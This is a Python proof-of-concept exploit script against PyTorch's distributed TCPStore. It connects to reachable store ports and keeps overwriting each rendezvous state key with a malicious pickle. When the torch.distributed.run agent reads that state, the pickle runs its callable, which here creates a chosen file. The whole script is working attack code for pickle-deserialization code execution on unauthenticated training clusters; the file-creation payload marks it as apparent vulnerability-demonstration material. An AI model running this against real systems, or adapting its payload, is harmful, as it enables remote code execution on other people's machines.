# SPDX-License-Identifier: Apache-2.0
"""What anyone on the network can do to torch's store: ``python store_attack.py ADDRESS FILE PORT...``.

Replaces the state of each rendezvous by a pickle that makes its reader create FILE: the agent of torch.distributed.run
reads that state every few seconds. Exit code 1 where nothing answers at the address.
"""

import pickle
import socket
import sys
import time
from base64 import b64encode
from contextlib import suppress
from datetime import timedelta
from pathlib import Path

STATE = "torch.rendezvous."
ANSWERS_WITHIN_S = 5
FOR_S = 60


class Payload:
    def __init__(self, file: str) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return Path.touch, (Path(self.file),)


def answers(address: str, port: str) -> bool:
    with suppress(OSError), socket.create_connection((address, int(port)), ANSWERS_WITHIN_S):
        return True
    return False


def main() -> None:
    address, file, *ports = sys.argv[1:]
    reached = [int(port) for port in ports if answers(address, port)]
    if not reached:
        sys.exit(f"nothing answers at {address}")
    from torch.distributed import TCPStore

    patience = timedelta(seconds=ANSWERS_WITHIN_S)
    stores = [TCPStore(address, port, is_master=False, wait_for_workers=False, timeout=patience) for port in reached]
    state = b64encode(pickle.dumps(Payload(file))).decode()
    end = time.monotonic() + FOR_S
    while time.monotonic() < end and not Path(file).exists():
        for store in stores:
            for key in store.list_keys():
                if key.startswith(STATE) and "/" not in key:
                    store.set(key, state)
        time.sleep(0.1)


if __name__ == "__main__":
    main()
